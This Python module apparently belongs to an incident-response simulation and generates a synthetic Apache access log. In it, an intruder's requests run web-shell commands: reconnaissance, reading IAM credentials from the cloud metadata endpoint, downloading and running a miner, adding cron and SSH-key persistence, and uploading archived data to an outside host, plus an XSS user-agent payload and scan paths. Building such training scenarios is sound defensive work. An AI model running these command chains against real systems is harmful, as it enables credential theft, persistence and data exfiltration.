"""The web server's access log: ordinary visitors, scanners, and the intruder's path to the shell."""

from __future__ import annotations

from dataclasses import dataclass
from datetime import datetime, timedelta
from urllib.parse import quote

from irkit.sim.scenarios.web_to_role_theft.story import Story

_PAGES = (
    "/",
    "/index.php",
    "/shop",
    "/cart",
    "/login",
    "/static/css/site.css",
    "/static/js/app.js",
    "/health",
    "/product/{n}",
    "/search?q=lamp",
    "/account/orders",
    "/favicon.ico",
    "/uploads/banner.jpg",
)
_SCANS = (
    "/.env",
    "/wp-login.php",
    "/phpmyadmin/",
    "/.git/config",
    "/server-status",
    "/admin/",
    "/upload.php",
    "/vendor/phpunit/",
    "/backup.zip",
    "/config.php.bak",
)
_BROWSERS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/129.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
    "Mozilla/5.0 (X11; Linux x86_64; rv:131.0) Gecko/20100101 Firefox/131.0",
)
CHECKER = "ELB-HealthChecker/2.0"
_VISITOR = "Mozilla/5.0 (compatible; curl-impersonate)"


@dataclass(frozen=True, slots=True, kw_only=True)
class Visit:
    """One request of the intruder."""

    when: datetime
    method: str
    target: str
    status: int
    size: int
    agent: str


def visits(story: Story) -> list[Visit]:
    """The intruder's requests: probing, the upload, then commands through the shell; all from one address."""
    rng, times, intruder = story.rng("visits"), story.times, story.intruder
    found: list[Visit] = []

    def ask(when: datetime, method: str, target: str, status: int, agent: str = _VISITOR) -> None:
        found.append(
            Visit(
                when=when,
                method=method,
                target=target,
                status=status,
                size=rng.randrange(120, 5200),
                agent=agent,
            )
        )

    when = times.probe
    for path in rng.sample(_SCANS, 8):
        ask(
            when,
            "GET",
            path,
            200 if path == "/upload.php" else 404,
            f"<img src=x onerror=alert({rng.getrandbits(8)})>",
        )
        when += timedelta(seconds=rng.randrange(4, 40))
    ask(times.upload, "POST", "/upload.php", 200)
    ask(times.upload + timedelta(minutes=2), "POST", "/upload.php", 200)

    def run(when: datetime, command: str) -> None:
        ask(when, "GET", f"{intruder.shell_url}?k={intruder.shell_password}&c={quote(command)}", 200)

    run(times.entry, "id")
    run(times.entry + timedelta(seconds=21), "uname -a")
    run(times.entry + timedelta(seconds=58), "sudo -l")
    metadata = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
    run(times.imds, f"curl -s {metadata}")
    run(times.imds + timedelta(seconds=11), f"curl -s {metadata}{story.estate.web_role.name}")
    run(
        times.miner - timedelta(seconds=9),
        f"curl -s http://{intruder.pool_ip}/{intruder.miner.rsplit('/', 1)[1]} -o {intruder.miner}",
    )
    run(times.miner, f"sudo {intruder.miner}")
    run(times.cron, f"echo ... | sudo tee {intruder.cron_path}")
    run(times.ssh, "sudo tee -a /home/ec2-user/.ssh/authorized_keys")
    run(
        times.exfil - timedelta(seconds=70),
        f"tar czf {intruder.archive_path} /srv/data /var/www/html/config.php",
    )
    run(times.exfil, f"curl -sT {intruder.archive_path} https://{intruder.exfil_ip}/")
    return sorted(found, key=lambda visit: visit.when)


def access_log(story: Story) -> str:
    """Two days of requests in Apache's combined format, oldest first."""
    rng, estate, times = story.rng("access-log"), story.estate, story.times
    lines: list[tuple[datetime, str]] = []
    when = times.at - timedelta(hours=48)
    while (when := when + timedelta(seconds=rng.expovariate(1 / 70))) < times.at:
        if rng.random() < 0.3:
            who, path, agent = rng.choice(estate.balancer_ips), "/health", CHECKER
        else:
            who, agent = rng.choice(estate.balancer_ips), rng.choice(_BROWSERS)
            path = rng.choice(_PAGES).format(n=rng.randrange(1, 900))
        status = 200 if rng.random() < 0.97 else rng.choice((302, 304, 404, 500))
        lines.append((when, _line(who, when, "GET", path, status, rng.randrange(200, 30_000), agent)))
        if rng.random() < 0.03:
            scanner = f"198.18.{rng.randrange(60, 99)}.{rng.randrange(1, 254)}"
            lines.append((when, _line(scanner, when, "GET", rng.choice(_SCANS[:6]), 404, 196, "zgrab/0.x")))
    lines.extend(
        (
            visit.when,
            _line(
                story.intruder.web_ip,
                visit.when,
                visit.method,
                visit.target,
                visit.status,
                visit.size,
                visit.agent,
            ),
        )
        for visit in visits(story)
    )
    lines.sort(key=lambda line: line[0])
    return "".join(line for _, line in lines)


def _line(who: str, when: datetime, method: str, target: str, status: int, size: int, agent: str) -> str:
    # Apache itself escapes quotes and control characters in what visitors send
    stamp = when.strftime("%d/%b/%Y:%H:%M:%S +0000")
    return f'{who} - - [{stamp}] "{method} {target} HTTP/1.1" {status} {size} "-" "{agent}"\n'
